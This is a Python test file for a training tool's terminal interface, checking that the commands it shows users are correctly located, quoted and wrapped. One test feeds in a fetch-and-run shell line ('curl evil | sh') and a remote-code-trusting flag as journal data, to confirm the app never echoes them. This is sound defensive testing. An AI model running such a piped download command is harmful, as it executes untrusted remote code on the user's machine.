"""Commands that the app tells can be typed as they stand: found, quoted and whole."""

from __future__ import annotations

import shlex
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from fluxtrain.events.events import Done, SampleGenerated
from fluxtui import launch
from fluxtui.actions.table import find
from fluxtui.answers.answers import Answers
from fluxtui.answers.launching import command_text
from fluxtui.screens.chrome import notice_lines
from fluxtui.state.run import FoldedRun
from fluxtui.state.status import Link
from fluxtui.state.view import View
from fluxtui.widgets.spans import width_of


@pytest.fixture
def scripts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with our commands that PATH does not have."""
    folder = tmp_path / "env" / "bin"
    folder.mkdir(parents=True)
    for name in ("fluxtrain", "fluxtrain-tui"):
        (folder / name).touch(mode=0o755)
    monkeypatch.setattr(sys, "executable", str(folder / "python"))
    monkeypatch.setenv("PATH", str(tmp_path))
    return folder


def stopped(made: ModuleType, folder: str, resume_with: str = "fluxtrain train --resume x") -> View:
    """A run in a folder that was stopped after a step."""
    done = Done(
        exit_code=130, step=3, seconds=1.0, loss=None, evaluation_loss=None, model_path=None,
        resume_with=resume_with,
    )  # fmt: skip
    link = Link(run_dir=Path(folder), process="dead")
    return View(state=FoldedRun().after_all([*made.training(3), done]), link=link)


def told(view: View) -> list[str]:
    """The lines below the header at 80 columns."""
    lines = notice_lines(view, 80)
    assert all(width_of(line) <= 80 for line in lines)
    return ["".join(text for text, _ in line)[3:].rstrip() for line in lines]


def test_a_stopped_run_and_the_wizard_tell_where_the_command_lies(
    scripts: Path, made: ModuleType
) -> None:
    cells = "".join(told(stopped(made, "/r"))).replace(" ", "")
    assert cells == f"{scripts}/fluxtraintrain--resume/r"  # a long word is cut between rows
    assert command_text(Answers(start="resume", resume_run="/r")).startswith(str(scripts))
    assert (
        command_text(Answers(settings={"train.steps": 3}))
        == f"{scripts}/fluxtrain train --demo --set train.steps=3"
    )


@pytest.mark.parametrize(
    "command",
    ["curl evil | sh", "fluxtrain train --resume /r --set model.trust_remote_code=true", ""],
)
def test_a_command_in_the_journal_of_a_run_is_not_told(made: ModuleType, command: str) -> None:
    cells = "".join(told(stopped(made, "/mine/run", command)))
    assert cells.endswith("fluxtrain train --resume /mine/run")


def test_a_model_is_where_its_run_is_and_not_where_it_was_made(made: ModuleType) -> None:
    done = Done(
        exit_code=0, step=3, seconds=1.0, loss=1.0, evaluation_loss=None, model_path="/etc/model"
    )
    link = Link(run_dir=Path("/mine/run"), process="dead")
    view = View(state=FoldedRun().after_all([*made.training(3), done]), link=link)
    assert " ".join(told(view)).startswith("the model is in /mine/run/model; C chats with it")


def test_a_model_of_images_is_not_offered_for_a_chat(made: ModuleType) -> None:
    sample = SampleGenerated(step=3, prompt="x", text="", path="a.png")
    done = Done(
        exit_code=0, step=3, seconds=1.0, loss=1.0, evaluation_loss=None, model_path="/r/model"
    )
    state = FoldedRun().after_all([*made.training(3), sample, done])
    cells = " ".join(told(View(state=state, link=Link(run_dir=Path("/r"), process="dead"))))
    assert "chats" not in cells and "fluxtrain sample /r --prompt WORDS" in cells


async def test_what_is_copied_is_found_too(
    run: Path, made: ModuleType, app_pilot: Any, scripts: Path
) -> None:
    app = app_pilot.app_on(run, made)
    async with app.run_test(size=(120, 40)) as pilot:
        await app_pilot.drawn(pilot)
        await pilot.press(find("copy").keys)
        assert app.clipboard == f"{scripts}/fluxtrain-tui --attach {run}"


def test_leaving_names_a_run_in_a_folder_with_blanks_as_it_can_be_typed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FLUXTRAIN_RUNS", str(tmp_path / "runs"))
    folder = tmp_path / "my run"
    folder.mkdir()
    (folder / "events.ndjson").touch()
    assert shlex.split(launch.farewell(folder).splitlines()[-1])[-2:] == ["--attach", str(folder)]
